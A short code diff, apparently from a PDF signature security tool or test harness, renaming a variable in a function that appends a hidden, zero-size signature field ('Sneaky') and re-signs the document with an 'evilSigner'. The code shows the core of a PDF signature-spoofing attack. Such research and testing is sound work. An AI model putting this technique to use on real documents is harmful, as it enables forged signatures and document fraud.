@@ -265,13 +265,13 @@ function withField(text: string, id: number, objects: [number, string][]): strin
 async function signAgain(text: string, subFilter: string, type: string, signer: Loot["evilSigner"]): Promise<string> {
   const { size } = partsOf(text);
   const range = "/ByteRange[0 0000000000 0000000000 0000000000]";
-  const room = "0".repeat(8000);
+  const placeholder = "0".repeat(8000);
   const next = withField(text, size, [
     [size, `<</FT/Sig/T(Sneaky)/V ${size + 1} 0 R/Rect[0 0 0 0]/Type/Annot/Subtype/Widget>>`],
-    [size + 1, `<</Type/${type}/Filter/Adobe.PPKLite/SubFilter/${subFilter}${range}/Contents<${room}>>>`],
+    [size + 1, `<</Type/${type}/Filter/Adobe.PPKLite/SubFilter/${subFilter}${range}/Contents<${placeholder}>>>`],
   ]);
-  const from = next.lastIndexOf(`<${room}>`);
-  const to = from + room.length + 2;
+  const from = next.lastIndexOf(`<${placeholder}>`);
+  const to = from + placeholder.length + 2;
   const numbers = [from, to, next.length - to].map((one) => String(one).padStart(10, "0")).join(" ");
   const ranged = next.replace(range, `/ByteRange[0 ${numbers}]`);
   const digest = createHash("sha256")
@@ -279,7 +279,7 @@ async function signAgain(text: string, subFilter: string, type: string, signer: 
     .update(latin1(ranged.slice(to)))
     .digest();
   const cms = signedData(await signDigest(new Uint8Array(digest), signer), signer).toHex();
-  return `${ranged.slice(0, from)}<${cms.padEnd(room.length, "0")}>${ranged.slice(to)}`;
+  return `${ranged.slice(0, from)}<${cms.padEnd(placeholder.length, "0")}>${ranged.slice(to)}`;
 }
 
 function withStore(
